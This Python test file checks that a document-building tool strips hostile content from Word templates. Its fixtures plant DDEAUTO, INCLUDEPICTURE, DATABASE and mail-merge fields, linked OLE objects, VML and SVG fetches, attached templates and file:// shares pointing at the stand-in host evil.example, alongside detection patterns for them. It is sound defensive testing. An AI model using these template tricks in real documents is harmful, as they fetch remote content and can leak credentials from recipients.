"""Word templates from strangers: each trick is built into a template, a pack is built on it, and the pack is scanned.

A pack takes from a template only its look. Each case below hides something in a
template that would fetch from elsewhere, run, or carry the template's own content
(body text, pictures, comments, properties, customXml) into every pack mailed out;
the built .docx is then opened as a zip and every part searched for it.
"""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml.ns import qn
from docx.shared import Cm
from lxml import etree
from PIL import Image as PILImage
from pypdf import PdfReader

from briefing.cli import main

from .conftest import open_xml_audit

EVIL = "evil.example"
"""Every hostile address in these templates names this host; no byte of it may reach a pack."""
SECRETS = {
    "body text": "TEMPLATE-BODY-TEXT",
    "description": "TEMPLATE-DESCRIPTION",
    "keywords": "TEMPLATE-KEYWORDS",
    "title": "TEMPLATE-TITLE",
    "author": "TEMPLATE-AUTHOR",
    "comment": "TEMPLATE-COMMENT",
    "customXml": "TEMPLATE-CUSTOM-XML",
}
"""The template's own content, which no pack may carry."""
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS = (
    f'xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
)
FETCHING_FIELD = re.compile(r"\b(INCLUDEPICTURE|INCLUDETEXT|INCLUDE|DATABASE|DDEAUTO|DDE|LINK|IMPORT|QUOTE)\b", re.I)
FORBIDDEN_ELEMENTS = {
    "altChunk",
    "mailMerge",
    "attachedTemplate",
    "subDoc",
    "object",
    "control",
    "OLEObject",
    "connectString",
    "query",
    "dataSource",
    "comment",
    "commentReference",
}
FORBIDDEN_PARTS = re.compile(
    r"customXml/|comments|glossary/|vbaProject|activeX|embeddings/|afchunk|webSettings|people\.xml|"
    r"docProps/custom\.xml|thumbnail|footnotes|endnotes",
    re.I,
)


def png(colour: tuple[int, int, int]) -> bytes:
    # A tuple, not a name: PIL caches a named colour as a tuple in ImageColor.colormap,
    # where the spec reader looks names up as strings.
    out = io.BytesIO()
    PILImage.new("RGB", (8, 8), colour).save(out, "PNG")
    return out.getvalue()


BODY_PICTURE = png((200, 0, 0))
HEADER_PICTURE = png((0, 0, 200))


# -- making templates --------------------------------------------------------


def base_template(path: Path) -> None:
    """A template with a house look and its own content: body text and picture, a comment, properties."""
    template = docx.Document()
    properties = template.core_properties
    properties.comments, properties.keywords = SECRETS["description"], SECRETS["keywords"]
    properties.title, properties.author = SECRETS["title"], SECRETS["author"]
    template.styles["Normal"].font.name = "Courier New"
    template.add_paragraph(SECRETS["body text"])
    template.add_picture(io.BytesIO(BODY_PICTURE))
    commented = template.add_paragraph("commented")
    template.add_comment(commented.runs, text=SECRETS["comment"], author=SECRETS["author"])
    template.sections[0].header.paragraphs[0].text = "HOUSE HEADER"
    template.save(path)
    patch(path, {"customXml/item1.xml": f"<b:Sources xmlns:b='urn:x'>{SECRETS['customXml']}</b:Sources>".encode()})


def patch(path: Path, changes: dict[str, bytes | Callable[[bytes], bytes]]) -> None:
    """Rewrite parts of a saved package: new bytes, or a function of the old ones."""
    with zipfile.ZipFile(path) as package:
        parts = {info.filename: package.read(info) for info in package.infolist()}
    for name, change in changes.items():
        parts[name] = change(parts.get(name, b"")) if callable(change) else change
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)


def before(end_tag: str, xml: str) -> Callable[[bytes], bytes]:
    """Insert XML before a part's closing tag (its last occurrence)."""

    def change(old: bytes) -> bytes:
        text = old.decode("utf-8")
        at = text.rindex(end_tag)
        return (text[:at] + xml + text[at:]).encode("utf-8")

    return change


def after_opening(tag: str, xml: str) -> Callable[[bytes], bytes]:
    """Insert XML just after a part's opening tag."""

    def change(old: bytes) -> bytes:
        text = old.decode("utf-8")
        at = text.index(">", text.index(tag)) + 1
        return (text[:at] + xml + text[at:]).encode("utf-8")

    return change


def rels(*entries: tuple[str, str, str, bool]) -> Callable[[bytes], bytes]:
    """Add relationships (id, type's last word, target, external) to a .rels part, making it if need be."""
    lines = "".join(
        f'<Relationship Id="{rel_id}" Type="{kind if "://" in kind else f"{RELS}/{kind}"}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for rel_id, kind, target, external in entries
    )

    def change(old: bytes) -> bytes:
        if not old:
            old = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        return before("</Relationships>", lines)(old)

    return change


def content_type(part: str, kind: str) -> Callable[[bytes], bytes]:
    return before("</Types>", f'<Override PartName="/{part}" ContentType="{kind}"/>')


def header(xml: str, *entries: tuple[str, str, str, bool]) -> dict[str, bytes | Callable[[bytes], bytes]]:
    """Changes that add ``xml`` (a block) to the template's header, and relationships to its part."""
    changes: dict[str, bytes | Callable[[bytes], bytes]] = {"word/header1.xml": before("</w:hdr>", xml)}
    if entries:
        changes["word/_rels/header1.xml.rels"] = rels(*entries)
    return changes


def field(*pieces: str, result: str = "shown") -> str:
    """A complex field whose instruction is split into ``pieces``, one run each.

    "{", "|" and "}" begin, separate and end a nested field, and "=text" is what it shows.
    """
    runs = ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>']
    for piece in pieces:
        if piece == "{":
            runs.append('<w:r><w:fldChar w:fldCharType="begin"/></w:r>')
        elif piece == "|":
            runs.append('<w:r><w:fldChar w:fldCharType="separate"/></w:r>')
        elif piece == "}":
            runs.append('<w:r><w:fldChar w:fldCharType="end"/></w:r>')
        elif piece.startswith("="):
            runs.append(f"<w:r><w:t>{piece[1:]}</w:t></w:r>")  # a nested field's shown result
        else:
            runs.append(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>')
    runs.append('<w:r><w:fldChar w:fldCharType="separate"/></w:r>')
    runs.append(f"<w:r><w:t>{result}</w:t></w:r>")
    runs.append('<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return f"<w:p {NS}>{''.join(runs)}</w:p>"


def picture(blip: str) -> str:
    """A paragraph showing a DrawingML picture whose ``a:blip`` has the attributes ``blip``."""
    return (
        f"<w:p {NS}><w:r><w:drawing><wp:inline><wp:extent cx='9525' cy='9525'/><wp:docPr id='9' name='p'/>"
        "<a:graphic><a:graphicData uri='http://schemas.openxmlformats.org/drawingml/2006/picture'>"
        f"<pic:pic><pic:nvPicPr><pic:cNvPr id='9' name='p'/><pic:cNvPicPr/></pic:nvPicPr>"
        f"<pic:blipFill><a:blip {blip}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>"
        "<pic:spPr><a:xfrm><a:off x='0' y='0'/><a:ext cx='9525' cy='9525'/></a:xfrm>"
        "<a:prstGeom prst='rect'/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


HTML = "text/html"
SETTINGS_NS = f'xmlns:w="{W}" xmlns:r="{R}"'

TRICKS: dict[str, tuple[dict[str, bytes | Callable[[bytes], bytes]], list[str]]] = {
    "INCLUDEPICTURE split across runs": (
        header(field(" INCLUDE", f'PICTURE "http://{EVIL}/p.png" \\d ')),
        ["a field (INCLUDEPICTURE) in word/header1.xml"],
    ),
    "DDEAUTO split across runs": (
        header(field(" D", f'DEAUTO excel "\\\\\\\\{EVIL}\\\\s\\\\x.xls" "R1C1" ')),
        ["a field (DDEAUTO) in word/header1.xml"],
    ),
    "DATABASE and INCLUDE fields": (
        header(
            field(f'DATABASE \\d "\\\\\\\\{EVIL}\\\\db.mdb" \\c "Provider=x" \\s "select *"')
            + f"<w:p {NS}><w:fldSimple w:instr='INCLUDE \"\\\\{EVIL}\\s\\x.docx\"'>"
            + "<w:r><w:t>i</w:t></w:r></w:fldSimple></w:p>"
        ),
        ["a field (DATABASE) in word/header1.xml", "a field (INCLUDE) in word/header1.xml"],
    ),
    "a field name made by a nested field": (
        header(
            field("{", 'QUOTE "INCLUDEPICTURE"', "|", "=INCLUDEPICTURE", "}", f' "http://{EVIL}/n.png" ')
            + field("DATE", "{", 'QUOTE "BASE"', "|", "=BASE", "}", f' \\c "{EVIL}" ')
        ),
        ["a field in word/header1.xml", "a field (DATE) in word/header1.xml"],
    ),
    "a field that never ends": (
        header(
            f'<w:p {NS}><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText>INCLUDETEXT "http://{EVIL}/u"</w:instrText></w:r></w:p>'
        ),
        ["a field (INCLUDETEXT) in word/header1.xml"],
    ),
    "a mail merge with a connection string and a query": (
        {
            "word/settings.xml": after_opening(
                "<w:settings",
                f"<w:mailMerge {SETTINGS_NS}><w:mainDocumentType w:val='formLetters'/><w:linkToQuery/>"
                f"<w:dataType w:val='native'/><w:connectString w:val='Data Source=\\\\{EVIL}\\s\\x.accdb'/>"
                "<w:query w:val='SELECT * FROM t'/><w:dataSource r:id='rIdMM'/></w:mailMerge>",
            ),
            "word/_rels/settings.xml.rels": rels(("rIdMM", "mailMergeSource", f"file://{EVIL}/s/x.accdb", True)),
        },
        [f"a mail merge ('file://{EVIL}/s/x.accdb')"],
    ),
    "altChunk in a header": (
        {
            **header(f"<w:altChunk {NS} r:id='rIdAC'/>", ("rIdAC", "aFChunk", "afchunk.htm", False)),
            "word/afchunk.htm": f"<html><body><img src='http://{EVIL}/a.png'></body></html>".encode(),
            "[Content_Types].xml": content_type("word/afchunk.htm", HTML),
        },
        ["a chunk of another document (altChunk) in word/header1.xml"],
    ),
    "fields in footnotes and in the glossary": (
        {
            "word/footnotes.xml": f"<w:footnotes {NS}><w:footnote w:id='1'>{field(f'INCLUDEPICTURE http://{EVIL}/f')}"
            "</w:footnote></w:footnotes>".encode(),
            "word/glossary/document.xml": f"<w:glossaryDocument {NS}><w:docParts><w:docPart><w:docPartBody>"
            f"<w:p><w:fldSimple w:instr='INCLUDETEXT http://{EVIL}/g'/></w:p></w:docPartBody></w:docPart>"
            "</w:docParts></w:glossaryDocument>".encode(),
            "word/_rels/document.xml.rels": rels(
                ("rIdFN", "footnotes", "footnotes.xml", False),
                ("rIdGL", "glossaryDocument", "glossary/document.xml", False),
            ),
            "[Content_Types].xml": lambda old: content_type(
                "word/glossary/document.xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml",
            )(
                content_type(
                    "word/footnotes.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
                )(old)
            ),
        },
        [],
    ),
    "an attached template typed as a hyperlink": (
        {
            "word/settings.xml": after_opening("<w:settings", f"<w:attachedTemplate {SETTINGS_NS} r:id='rIdAT'/>"),
            "word/_rels/settings.xml.rels": rels(("rIdAT", "hyperlink", f"http://{EVIL}/t.dotm", True)),
        },
        [f"an attached template ('http://{EVIL}/t.dotm')"],
    ),
    "addresses from the same scheme, as entities and in a VML behaviour": (
        header(
            f"<w:p {NS}><w:r><w:pict><v:shape style='width:10pt;behavior:url(//{EVIL}/x.htc)' "
            f"o:title='https&amp;colon;//{EVIL}/v'><v:fill o:title='//{EVIL}/share/f.png'/></v:shape>"
            "</w:pict></w:r></w:p>"
        ),
        [],
    ),
    "an SVG that fetches, typed as a PNG": (
        {
            **header(picture("r:embed='rIdS'"), ("rIdS", "image", "media/h.png", False)),
            "word/media/h.png": (
                "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
                f"<image xlink:href='http://{EVIL}/s.png'/></svg>"
            ).encode(),
        },
        [],
    ),
    "a linked picture typed as a hyperlink": (
        header(picture("r:link='rIdL'"), ("rIdL", "hyperlink", f"http://{EVIL}/l.png", True)),
        [f"a hyperlink to 'http://{EVIL}/l.png' in word/header1.xml"],
    ),
    "a file:// hyperlink": (
        header(
            f"<w:p {NS}><w:hyperlink r:id='rIdF'><w:r><w:t>the share</w:t></w:r></w:hyperlink></w:p>",
            ("rIdF", "hyperlink", f"file://{EVIL}/s/x.docx", True),
        ),
        [f"a hyperlink to 'file://{EVIL}/s/x.docx' in word/header1.xml"],
    ),
    "a package-level external relationship": (
        {"_rels/.rels": rels(("rIdX", "hyperlink", f"http://{EVIL}/package", True))},
        [],
    ),
    "VML imagedata src": (
        header(
            f"<w:p {NS}><w:r><w:pict><v:shape id='s1' style='width:9pt;height:9pt'>"
            f"<v:imagedata src='http://{EVIL}/v.png' o:href='http://{EVIL}/o.png'/></v:shape></w:pict></w:r></w:p>"
        ),
        ["an address (src) in word/header1.xml", "an address (href) in word/header1.xml"],
    ),
    "a linked OLE object in a header": (
        header(
            f"<w:p {NS}><w:r><w:object><o:OLEObject Type='Link' ProgID='Excel.Sheet.12' r:id='rIdO'"
            " UpdateMode='Always'/></w:object></w:r></w:p>",
            ("rIdO", "oleObject", f"\\\\{EVIL}\\s\\x.xlsx", True),
        ),
        ["an OLE object in word/header1.xml"],
    ),
    "a theme that fetches its background": (
        {
            "word/theme/theme1.xml": after_opening(
                "<a:bgFillStyleLst",
                "<a:blipFill><a:blip r:link='rIdT' xmlns:r='"
                + R
                + "'/><a:stretch><a:fillRect/></a:stretch></a:blipFill>",
            ),
            "word/theme/_rels/theme1.xml.rels": rels(("rIdT", "image", f"http://{EVIL}/theme.png", True)),
        },
        [f"an image to 'http://{EVIL}/theme.png' in word/theme/theme1.xml"],
    ),
    "a picture bullet that fetches": (
        {
            "word/numbering.xml": after_opening(
                "<w:numbering",
                f"<w:numPicBullet w:numPicBulletId='0' {NS}><w:pict><v:shape id='b1' style='width:9pt;height:9pt'>"
                "<v:imagedata r:id='rIdN'/></v:shape></w:pict></w:numPicBullet>",
            ),
            "word/_rels/numbering.xml.rels": rels(("rIdN", "image", f"http://{EVIL}/bullet.png", True)),
        },
        [f"an image to 'http://{EVIL}/bullet.png' in word/numbering.xml"],
    ),
    "macros and an attached template on a share": (
        {
            "word/vbaProject.bin": b"\0" * 64,
            "word/_rels/document.xml.rels": rels(
                ("rIdVBA", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)
            ),
            "word/settings.xml": after_opening("<w:settings", f"<w:attachedTemplate {SETTINGS_NS} r:id='rIdAT'/>"),
            "word/_rels/settings.xml.rels": rels(("rIdAT", "attachedTemplate", f"\\\\{EVIL}\\s\\x.dotm", True)),
        },
        [f"an attached template ('\\\\{EVIL}\\s\\x.dotm')"],
    ),
}


# -- building and scanning ---------------------------------------------------


def build_on(template: Path, folder: Path, capsys: pytest.CaptureFixture[str]) -> tuple[Path, str]:
    """A pack's .docx built on ``template``, and the warnings printed."""
    spec = folder / "brief.yaml"
    spec.write_text("title: T\nsections:\n  - heading: H\n    content:\n      - paragraph: Pack text.\n")
    out = folder / "out"
    assert main(["build", str(spec), "--docx-template", str(template), "--format", "docx", "--out", str(out)]) == 0
    return out / "brief.docx", capsys.readouterr().err


def scan(path: Path) -> list[str]:
    """Everything in a .docx package that fetches, points away, runs, or came from a template's own content."""
    found = []
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    found += [f"part {name}" for name in parts if FORBIDDEN_PARTS.search(name)]
    found += [f"the template's picture in {name}" for name, data in parts.items() if data == BODY_PICTURE]
    for name, data in parts.items():
        text = data.decode("utf-8", "replace")
        found += [f"{what} in {name}" for what, secret in SECRETS.items() if secret in text]
        if EVIL in text:
            found.append(f"{EVIL} in {name}")
        if not name.endswith((".xml", ".rels")):
            continue
        root = etree.fromstring(data)
        for rel in root.iter("{http://schemas.openxmlformats.org/package/2006/relationships}Relationship"):
            if rel.get("TargetMode") == "External":
                found.append(f"an external target {rel.get('Target')} in {name}")
        instructions = "".join(t.text or "" for t in root.iter(qn("w:instrText"), qn("w:delInstrText")))
        instructions += "".join(f.get(qn("w:instr"), "") for f in root.iter(qn("w:fldSimple")))
        found += [f"a field {m.group(0)} in {name}" for m in FETCHING_FIELD.finditer(instructions)]
        for element in root.iter():
            if not isinstance(element.tag, str):
                continue
            local = etree.QName(element).localname
            if local in FORBIDDEN_ELEMENTS:
                found.append(f"{local} in {name}")
            if element.get(f"{{{R}}}link") is not None:
                found.append(f"a linked picture in {name}")
            if "vml" in (etree.QName(element).namespace or "") and {"src", "href"} & set(element.attrib):
                found.append(f"a VML address in {name}")
    return found


@pytest.mark.parametrize("trick", sorted(TRICKS))
def test_a_template_trick_reaches_no_pack(trick, tmp_path, capsys):
    changes, expected = TRICKS[trick]
    template = tmp_path / "house.docx"
    base_template(template)
    patch(template, changes)
    with zipfile.ZipFile(template) as package:  # the trick is really in the template
        assert any(EVIL in package.read(n).decode("utf-8", "replace") for n in package.namelist())
    built, warnings = build_on(template, tmp_path, capsys)
    assert scan(built) == []
    for what in expected:
        assert f"docx: dropped from the Word template: {what}" in warnings, warnings
    result = docx.Document(str(built))
    assert "HOUSE HEADER" in [p.text for p in result.sections[0].header.paragraphs]
    assert result.styles["Normal"].font.name == "Courier New"
    assert [p.text for p in result.paragraphs][:3] == ["T", "H", "Pack text."]


def test_the_scan_finds_each_trick_in_the_template_itself(tmp_path):
    """The scan is no weaker than the tricks: run on the templates themselves, it finds every one."""
    for trick, (changes, _) in TRICKS.items():
        template = tmp_path / f"{len(trick)}.docx"
        base_template(template)
        patch(template, changes)
        found = scan(template)
        assert any(EVIL in f or "part" in f or "field" in f for f in found), (trick, found)
        assert {"body text", "description", "comment", "customXml"} <= {f.split(" in ")[0] for f in found}


# -- what a template is for still comes through --------------------------------


def house_template(path: Path) -> None:
    """A template that uses what a template is for: pictures, a link and fields in headers and footers."""
    template = docx.Document()
    template.styles.add_style("House Quote", WD_STYLE_TYPE.PARAGRAPH).font.name = "Courier New"
    section = template.sections[0]
    section.page_width, section.left_margin = Cm(21.59), Cm(3.1)
    section.different_first_page_header_footer = True
    template.settings.odd_and_even_pages_header_footer = True
    section.first_page_header.paragraphs[0].text = "FIRST HEADER"
    section.even_page_header.paragraphs[0].text = "EVEN HEADER"
    house = section.header.paragraphs[0]
    house.add_run("HOUSE HEADER ")
    house.add_run().add_picture(io.BytesIO(HEADER_PICTURE), width=Cm(1))
    section.footer.paragraphs[0].text = "HOUSE FOOTER"
    template.add_paragraph(SECRETS["body text"])
    template.save(path)
    names = {rel.target_part: rel.target_ref for rel in template.part.rels.values()}
    header_name, footer_name = names[section.header.part], names[section.footer.part]
    link = f"<w:p {NS}><w:hyperlink r:id='rIdH'><w:r><w:t>HOUSE SITE</w:t></w:r></w:hyperlink></w:p>"
    numbers = f"<w:p {NS}><w:fldSimple w:instr=' NUMPAGES '><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
    patch(
        path,
        {
            f"word/{header_name}": before("</w:hdr>", link),
            f"word/_rels/{header_name}.rels": rels(("rIdH", "hyperlink", "https://example.org/house", True)),
            f"word/{footer_name}": before("</w:ftr>", field(" PA", "GE ") + numbers),
        },
    )


def test_a_template_brings_its_look_headers_footers_pictures_and_links(tmp_path, capsys):
    template = tmp_path / "house.docx"
    house_template(template)
    spec = tmp_path / "brief.yaml"
    spec.write_text(
        "title: T\nsections:\n  - heading: H\n    content:\n      - paragraph: One.\n      - page_break: true\n"
        "      - paragraph: Two.\n      - page_break: true\n      - paragraph: Three.\n"
    )
    out = tmp_path / "out"
    assert main(["build", str(spec), "--docx-template", str(template), "--format", "docx", "--out", str(out)]) == 0
    assert "dropped from the Word template" not in capsys.readouterr().err
    built = out / "brief.docx"
    found = scan(built)
    assert found and all(
        re.fullmatch(r"an external target https://example.org/house in word/_rels/header\d.xml.rels", f) for f in found
    ), found
    result = docx.Document(str(built))
    section = result.sections[0]
    assert round(section.page_width.cm, 2) == 21.59 and round(section.left_margin.cm, 2) == 3.1
    assert result.settings.odd_and_even_pages_header_footer and section.different_first_page_header_footer
    assert [p.text for p in section.first_page_header.paragraphs] == ["FIRST HEADER"]
    assert [p.text for p in section.even_page_header.paragraphs] == ["EVEN HEADER"]
    assert [p.text for p in section.header.paragraphs] == ["HOUSE HEADER ", "HOUSE SITE"]
    pictures = [r.target_part.blob for r in section.header.part.rels.values() if not r.is_external]
    assert pictures == [HEADER_PICTURE]
    assert section.header.part.element.xpath(".//a:blip/@r:embed")[0] in section.header.part.rels
    footer = section.footer.part.element
    instructions = [t.text.strip() for t in footer.iter(qn("w:instrText"))]
    instructions += [f.get(qn("w:instr")).strip() for f in footer.iter(qn("w:fldSimple"))]
    assert {"PAGE", "NUMPAGES"} <= set(instructions)
    assert result.styles["House Quote"].font.name == "Courier New"


THREE_PAGES = (
    "sections:\n  - heading: H\n    content:\n      - paragraph: One.\n      - page_break: true\n"
    "      - paragraph: Two.\n      - page_break: true\n      - paragraph: Three.\n"
)


def printed_on_house_template(tmp_path: Path, head: str) -> list[str]:
    """The text of each page of a three-page pack built on the house template, as LibreOffice prints it."""
    from .conftest import run_soffice

    template = tmp_path / "house.docx"
    house_template(template)
    spec = tmp_path / "brief.yaml"
    spec.write_text(head + THREE_PAGES)
    out = tmp_path / "out"
    assert main(["build", str(spec), "--docx-template", str(template), "--format", "docx", "--out", str(out)]) == 0
    printed = run_soffice(out / "brief.docx", tmp_path / "pdf")
    assert printed.returncode == 0, printed.stderr
    return [page.extract_text() for page in PdfReader(str(tmp_path / "pdf" / "brief.pdf")).pages]


def test_a_reader_shows_the_template_headers_on_their_pages(tmp_path, capsys):
    """LibreOffice opens the pack and prints each page with the template's header for it."""
    pages = printed_on_house_template(tmp_path, "title: T\n")
    assert len(pages) == 3
    assert "FIRST HEADER" in pages[0] and "EVEN HEADER" in pages[1] and "HOUSE HEADER" in pages[2]
    assert "HOUSE SITE" in pages[2] and "Three." in pages[2]
    assert not any(SECRETS["body text"] in page for page in pages)


def test_a_dotx_template_is_taken_and_the_pack_is_a_document(tmp_path, capsys):
    template = tmp_path / "house.dotx"
    base_template(template)
    main_type = b"wordprocessingml.document.main+xml"
    patch(template, {"[Content_Types].xml": lambda old: old.replace(main_type, b"wordprocessingml.template.main+xml")})
    built, _ = build_on(template, tmp_path, capsys)
    assert scan(built) == []
    with zipfile.ZipFile(built) as package:
        assert main_type in package.read("[Content_Types].xml")
    assert docx.Document(str(built)).styles["Normal"].font.name == "Courier New"


def test_a_header_picture_keeps_its_png_form_without_its_svg_form_or_its_link(tmp_path, capsys):
    """An SVG may fetch what it shows and a click may lead to a share: both go, the picture stays."""
    template = tmp_path / "house.docx"
    made = docx.Document()
    made.sections[0].header.paragraphs[0].add_run().add_picture(io.BytesIO(HEADER_PICTURE))
    made.save(template)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://{EVIL}/s.png"/></svg>'.encode()
    svg_form = (
        "<a:extLst><a:ext uri='{96DAC541-7B7A-43D3-8B79-37D633B846F1}'>"
        "<asvg:svgBlip xmlns:asvg='http://schemas.microsoft.com/office/drawing/2016/SVG/main' r:embed='rIdS'/>"
        "</a:ext></a:extLst>"
    )
    video = (
        "<a:extLst><a:ext uri='{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}'><wp15:webVideoPr "
        "xmlns:wp15='http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing' "
        f"embeddedHtml='&lt;iframe src=&quot;https://{EVIL}/v&quot;&gt;&lt;/iframe&gt;' h='9' w='9'/>"
        "</a:ext></a:extLst>"
    )

    def change(old: bytes) -> bytes:
        text = old.decode("utf-8")
        text = re.sub(r'<a:blip (r:embed="\w+")/>', rf"<a:blip \1>{svg_form}</a:blip>", text)
        click = "<a:hlinkClick xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main' r:id='rIdC'/>"
        text = re.sub(r'(<pic:cNvPr id="0" name="[^"]*")/>', rf"\1>{click}{video}</pic:cNvPr>", text)
        return text.encode("utf-8")

    patch(
        template,
        {
            "word/header1.xml": change,
            "word/media/logo.svg": svg,
            "word/_rels/header1.xml.rels": rels(
                ("rIdS", "image", "media/logo.svg", False), ("rIdC", "hyperlink", f"file://{EVIL}/s", True)
            ),
            "[Content_Types].xml": content_type("word/media/logo.svg", "image/svg+xml"),
        },
    )
    with zipfile.ZipFile(template) as package:
        assert b"svgBlip" in package.read("word/header1.xml") and b"hlinkClick" in package.read("word/header1.xml")
    built, warnings = build_on(template, tmp_path, capsys)
    assert scan(built) == []
    for what in ("an image", f"a hyperlink to 'file://{EVIL}/s'", "an address (embeddedHtml)"):
        assert f"docx: dropped from the Word template: {what} in word/header1.xml" in warnings
    header = docx.Document(str(built)).sections[0].header.part
    shown = [header.rels[rel_id].target_part.blob for rel_id in header.element.xpath(".//a:blip/@r:embed")]
    assert shown == [HEADER_PICTURE]
    assert not header.element.xpath(".//a:hlinkClick") and "svg" not in header.blob.decode()


def test_what_a_header_shows_around_a_refused_field_stays(tmp_path, capsys):
    """A refused field keeps what it showed; stray field marks go alone, not with the rest of the header."""
    template = tmp_path / "house.docx"
    base_template(template)
    stray = (
        f"<w:p {NS}><w:r><w:fldChar w:fldCharType='end'/></w:r><w:r><w:t>AFTER STRAY</w:t></w:r>"
        f"<w:r><w:instrText>INCLUDETEXT http://{EVIL}/x</w:instrText></w:r><w:r><w:t>LAST</w:t></w:r></w:p>"
    )
    shown_field = field(f"INCLUDETEXT http://{EVIL}/t ", result="SHOWN")
    patch(template, header(shown_field + stray + f"<w:p {NS}><w:r><w:t>END</w:t></w:r></w:p>"))
    built, _ = build_on(template, tmp_path, capsys)
    assert scan(built) == []
    texts = [p.text for p in docx.Document(str(built)).sections[0].header.paragraphs]
    assert texts == ["HOUSE HEADER", "SHOWN", "AFTER STRAYLAST", "END"]


def test_page_border_art_from_elsewhere_goes_and_the_page_set_up_stays(tmp_path, capsys):
    template = tmp_path / "house.docx"
    base_template(template)
    borders = f"<w:pgBorders {NS}><w:top w:val='apples' w:sz='20' w:space='24' r:id='rIdPB'/></w:pgBorders>"
    patch(
        template,
        {
            "word/document.xml": before("<w:cols", borders),
            "word/_rels/document.xml.rels": rels(("rIdPB", "image", f"http://{EVIL}/border.png", True)),
        },
    )
    built, _ = build_on(template, tmp_path, capsys)
    assert scan(built) == []
    section = docx.Document(str(built)).sections[0]._sectPr
    assert section.xpath("./w:pgBorders/w:top/@w:val") == ["apples"]
    assert not section.xpath("./w:pgBorders/w:top/@r:id")  # it would name whatever the pack's rIdPB is


def test_packs_built_on_every_trick_pass_the_open_xml_validator(tmp_path, capsys):
    """Cleaning leaves valid WordprocessingML: Word opens each pack without repairing it."""
    packs = tmp_path / "packs"
    packs.mkdir()
    for n, (changes, _) in enumerate(TRICKS.values()):
        template = tmp_path / f"trick{n}.docx"
        base_template(template)
        patch(template, changes)
        built, _ = build_on(template, tmp_path, capsys)
        shutil.copyfile(built, packs / f"trick{n}.docx")  # the pack's file, not its link into .packs/
    house_template(tmp_path / "house.docx")
    built, _ = build_on(tmp_path / "house.docx", tmp_path, capsys)
    shutil.copyfile(built, packs / "house.docx")
    reports = open_xml_audit(packs)
    assert [(Path(r["file"]).name, r["errors"][:3]) for r in reports if r["error_count"]] == []
    assert len(reports) == len(TRICKS) + 1


def test_a_template_with_its_first_and_even_pages_apart_still_marks_and_numbers_every_page(tmp_path, capsys):
    """A marking missing from one page is a marking missing: every header and footer the template uses gets it."""
    pages = printed_on_house_template(tmp_path, "title: T\nclassification: SECRET\n")
    assert len(pages) == 3
    for number, page in enumerate(pages, 1):
        assert page.count("SECRET") >= 2, (number, page)  # at the top and at the bottom
        assert f"Page {number} of 3" in page, (number, page)
    assert "FIRST HEADER" in pages[0] and "EVEN HEADER" in pages[1]
